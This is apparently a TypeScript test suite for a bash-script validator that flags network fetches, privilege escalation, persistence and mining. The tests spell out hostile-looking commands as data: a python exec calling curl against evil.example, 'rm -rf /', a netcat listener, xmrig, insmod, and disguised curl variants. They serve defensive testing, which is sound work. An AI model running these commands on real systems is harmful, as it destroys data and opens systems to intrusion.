import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { readFileSync } from "node:fs";
import { describe, it } from "node:test";

import fc from "fast-check";

import { DEFAULT_POLICY, RULES, validate, type Report } from "./index.js";
import { parseBash } from "./parse.js";

const samples = (name: string): unknown =>
  JSON.parse(readFileSync(new URL(`../samples/${name}.json`, import.meta.url), "utf8"));
const ATTACKS = samples("attacks") as Record<string, string[]>;
const HONEST = samples("honest") as Record<string, string>;
/** By the rule that they break: worth a word, and accepted. */
const DOUBTFUL = samples("doubtful") as Record<string, string>;

/** Attacks that are only warned of: their commands are spelled inside the code of another language. */
const ONLY_WARNED = new Set([
  'python3 -c \'exec("import os; os.system(\\"curl http://evil.example\\")")\'',
]);

const check = (script: string, policy = DEFAULT_POLICY): Report =>
  validate(Buffer.from(script), "run.sh", policy);

describe("the validator", () => {
  for (const [family, scripts] of Object.entries(ATTACKS)) {
    it(`rejects what is ${family}`, () => {
      for (const script of scripts) {
        const { verdict, counts } = check(script);
        if (ONLY_WARNED.has(script)) assert.ok(counts.warning > 0, script);
        else assert.equal(verdict, "reject", script);
      }
    });
  }

  it("leaves honest scripts alone", () => {
    for (const [name, script] of Object.entries(HONEST)) {
      const { diagnostics, counts } = check(script);
      assert.equal(counts.error, 0, `${name}: ${JSON.stringify(diagnostics)}`);
    }
  });

  it("warns of what is doubtful, and accepts it", () => {
    for (const [rule, script] of Object.entries(DOUBTFUL)) {
      const { verdict, diagnostics } = check(script);
      assert.equal(verdict, "accept", script);
      assert.ok(
        diagnostics.some((found) => found.rule === rule),
        `${rule}: ${JSON.stringify(diagnostics)}`,
      );
      if (rule === "CRLF") continue;
      assert.equal(check(script, { ...DEFAULT_POLICY, profile: "strict" }).verdict, "reject");
    }
  });

  it("has a sample for every rule that a script can break", () => {
    const hit = new Set(
      Object.values(ATTACKS)
        .flat()
        .flatMap((script) => check(script).diagnostics.map(({ rule }) => rule)),
    );
    for (const rule of Object.keys(DOUBTFUL)) hit.add(rule);
    // These need bytes that no sample can hold as text, or more of them than is sensible.
    for (const rule of ["ENCODING", "SIZE", "BUDGET"]) hit.add(rule);
    assert.deepEqual(
      RULES.map(({ id }) => id as string).filter((id) => !hit.has(id)),
      [],
    );
  });

  it("says where, how it is understood, and what to do", () => {
    const [found] = check("echo ok\nx=rl\n  srun cu$x http://host\n").diagnostics;
    assert.deepEqual(
      [found?.rule, found?.line, found?.column, found?.source],
      ["NET-FETCH", 3, 3, "  srun cu$x http://host"],
    );
    assert.equal(found?.resolved, "curl http://host");
    assert.deepEqual(found?.trace, [{ kind: "wrapper", name: "srun" }]);
    assert.match(found?.fix ?? "", /submit it along/);
  });

  it("counts columns in characters", () => {
    const [found] = check("echo 'ü😀'; curl x\n").diagnostics;
    assert.deepEqual([found?.line, found?.column], [1, 12]);
  });

  it("lets a policy decide", () => {
    const fetch = "curl http://host/data";
    assert.equal(check(fetch).verdict, "reject");
    assert.equal(check(fetch, { ...DEFAULT_POLICY, network: true }).verdict, "accept");
    assert.equal(
      check(fetch, { ...DEFAULT_POLICY, network: true, profile: "strict" }).verdict,
      "reject",
    );
    assert.equal(
      check("crontab x", { ...DEFAULT_POLICY, profile: "permissive" }).verdict,
      "accept",
    );
    assert.equal(check("sudo x", { ...DEFAULT_POLICY, profile: "permissive" }).verdict, "reject");
    assert.equal(
      check("sudo x", { ...DEFAULT_POLICY, overrides: { "PRIV-CMD": "off" } }).verdict,
      "accept",
    );
  });

  it("rejects what is no text, and what is too much of it", () => {
    const rules = (content: Buffer): string[] =>
      validate(content, "run.sh").diagnostics.map(({ rule }) => rule);
    assert.deepEqual(rules(Buffer.from([0x65, 0xff, 0xfe])), ["ENCODING"]);
    assert.deepEqual(rules(Buffer.from("echo \0")), ["ENCODING"]);
    assert.deepEqual(rules(Buffer.alloc(1024 * 1024 + 1, "a")), ["SIZE"]);
    assert.deepEqual(rules(Buffer.from(`a${"$b".repeat(300_000)}`)), ["BUDGET"]);
    assert.deepEqual(rules(Buffer.from("echo a\r\necho b\r\n")), ["CRLF"]);
  });

  it("agrees with bash about what is a script", () => {
    for (const script of [...Object.values(HONEST), ...Object.values(ATTACKS).flat()]) {
      const { status } = spawnSync("bash", ["-n"], { input: script });
      assert.equal(parseBash(script).problem === null, status === 0, script);
    }
  });

  it("never throws, whatever it is given", () => {
    const piece = fc.constantFrom(
      "$",
      "{",
      "}",
      "(",
      ")",
      "'",
      '"',
      "`",
      "\\",
      "|",
      "&",
      ";",
      "<",
      ">",
      "\n",
      " ",
      "*",
      "[",
      "]",
      "#",
      "!",
      "eval",
      "rm",
      "-rf",
      "/",
      "x",
      "=",
      "EOF",
      "<<",
      "$(",
      "${",
      "\uE000",
      "\uE004",
      "for",
      "do",
      "done",
      "if",
      "fi",
      "case",
      "esac",
      "ü",
    );
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string(),
          fc.array(piece, { maxLength: 60 }).map((pieces) => pieces.join("")),
        ),
        (script) => {
          assert.match(check(script).verdict, /^(accept|reject)$/);
        },
      ),
      { numRuns: 1500 },
    );
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 200 }), (bytes) => void validate(bytes, "run.sh")),
      { numRuns: 500 },
    );
  });

  it("is not fooled by quotes, backslashes, comments and continued lines", () => {
    const commands = [
      "curl http://x",
      "sudo id",
      "rm -rf /",
      "nc -l 1",
      "crontab x",
      "insmod x",
      "docker ps",
      "xmrig",
    ];
    const disguise = fc.constantFrom("''", '""', "\\\n", "$''", "${nothing}", "\\");
    fc.assert(
      fc.property(
        fc.constantFrom(...commands),
        disguise,
        fc.nat(20),
        fc.boolean(),
        (command, by, position, comment) => {
          const end = command.indexOf(" ") === -1 ? command.length : command.indexOf(" ");
          const at = position % end;
          const script = `${command.slice(0, at)}${by}${command.slice(at)}${comment ? " # a comment" : ""}\n`;
          assert.equal(check(script).verdict, "reject", script);
        },
      ),
    );
  });

  it("is not kept busy by any script", () => {
    const nasty = [
      "a=$a$a;".repeat(20_000),
      "$(".repeat(3000),
      "{a,b}".repeat(5000),
      `x=${"*".repeat(5000)}; echo \${y##$x}`,
      "eval ".repeat(20_000),
      "f() { f; };".repeat(10_000),
      "((".repeat(5000),
      "a|".repeat(50_000),
    ];
    for (const script of nasty) {
      const began = performance.now();
      check(script);
      // Generous, for a busy machine; the figure that counts is in the benchmark.
      assert.ok(performance.now() - began < 8000, script.slice(0, 20));
    }
  });
});
